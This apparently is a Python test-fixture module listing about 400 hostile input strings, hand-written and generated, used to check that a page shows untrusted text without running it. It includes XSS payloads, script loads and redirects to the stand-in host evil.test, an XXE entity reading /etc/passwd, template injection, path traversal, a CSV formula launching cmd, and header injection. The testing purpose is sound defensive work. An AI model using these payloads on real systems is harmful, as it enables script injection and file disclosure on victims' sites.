"""Four hundred texts that a page must show and never obey; written by hand, and made of parts.

Those that could run do `pwned()`, so that a browser can tell whether one did.
"""

from __future__ import annotations

import random

__all__ = ["BY_HAND", "batches", "texts"]

BY_HAND = [
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    '"><img src=x onerror=pwned()>',
    "'><svg onload=pwned()>",
    "`><img src=x onerror=pwned()>",
    '" onmouseover="pwned()" x="',
    "' onfocus='pwned()' autofocus='",
    '" autofocus onfocus=pwned() "',
    "x onerror=pwned()",
    "</title><script>pwned()</script>",
    "</textarea></style></script></noscript><h1>x",
    "</table></section></main></body></html>",
    "<!-- comment",
    "--><b>bold</b>",
    "<!--><img src=x onerror=pwned()>-->",
    "<![CDATA[ <script>pwned()</script> ]]>",
    "]]><x/>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&amp;quot; &#x3c;b&#x3e; &nbsp; &bogus;",
    "{{ 7 * 7 }} {% raw %} {# #}",
    "{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "${pwned()} #{pwned()} <%= pwned() %>",
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "java\nscript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    "//evil.test/path",
    "https://user:word@evil.test/",
    'https://evil.test/" onclick="pwned()',
    "https://evil.test/<script>pwned()</script>",
    "http://[::1",
    "<a href='javascript:pwned()'>x</a>",
    "<a href=//evil.test>",
    "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=//evil.test></object><embed src=//evil.test>",
    "<form action=//evil.test><button>Send</button></form>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()>",
    "<svg><animate onbegin=pwned() attributeName=x></svg>",
    "<svg><script>pwned()</script></svg>",
    "<math><mtext></p><img src=x onerror=pwned()>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<xmp><script>pwned()</script></xmp>",
    "<plaintext>",
    "<b",
    "<",
    ">",
    '"',
    "'",
    "&",
    "=",
    "\\",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\u202egnp.exe\u2066",
    "\u2066\u2067\u2068\u202a\u202b",
    "\u200b\u200c\u200d\ufeff\u00ad",
    "a\u0000b\u000bc\u0085d\u2028e\u2029f",
    "\u001b[31mred\u001b[0m \u0007",
    "\ufffe\uffff\ufdd0",
    "\U0001f469\u200d\U0001f4bb \U0001f1e9\U0001f1ea",
    "Z" + "\u0335\u0321\u0322" * 40,
    "x" * 1900,
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    'a","b\r\nc,d',
    "::error::pwned",
    "##vso[task.setvariable variable=x]pwned",
    "%3Cscript%3Epwned()%3C/script%3E",
    "%00%0d%0aSet-Cookie:x=1",
    "../../../../etc/passwd",
    "CON",
    "constructor",
    "__proto__",
    "toString",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "v-1.0.0",
    "d-e0000000000000000000000000000001",
    "content",
    "matrix",
    "https://",
    "    ",
    "\n\n\n",
    "a\r\nb",
    "{'a': 1}",
    '{"a": "</script>"}',
    "<p hidden data-moved>",
    '<a data-moved href="javascript:pwned()">',
    "(function () { pwned(); }())",
    "'-pwned()-'",
    '";pwned();//',
    "*/pwned()/*",
]  # fmt: skip

_OPENING = ["", '"', "'", "`", ">", '">', "'>", "</a>", "</td>", "</title>", "-->", "]]>", "\\"]
_MIDDLE = [
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    "<script>{}</script>",
    " onclick={} ",
    ' style="x" onmouseover="{}"',
    "<a href='javascript:{}'>x</a>",
    "<x onpointerenter={} tabindex=0>",
    "<body onload={}>",
    "<input type=image src=x onerror={}>",
    "<marquee onstart={}>",
]
_CLOSING = ["", "<!--", '"', "'", "<", "&", "\u0000", "{{", "{%", "\u2028"]


def texts(number: int = 400) -> list[str]:
    """Return the texts: those by hand, and as many made of parts as are missing."""
    choice = random.Random(20261122)
    found = dict.fromkeys(BY_HAND)
    while len(found) < number:
        middle = choice.choice(_MIDDLE).format("pwned()")
        found[choice.choice(_OPENING) + middle + choice.choice(_CLOSING)] = None
    return list(found)[:number]


def batches(size: int, number: int = 400) -> list[str]:
    """Return the texts, some to a batch, so that fewer sites show all of them.

    What is blank counts as nothing said, for which a page has other words: it stands in a word.
    """
    every = texts(number)
    found = [" ".join(every[start : start + size]) for start in range(0, len(every), size)]
    return [batch if batch.strip() else f"x{batch}x" for batch in found]
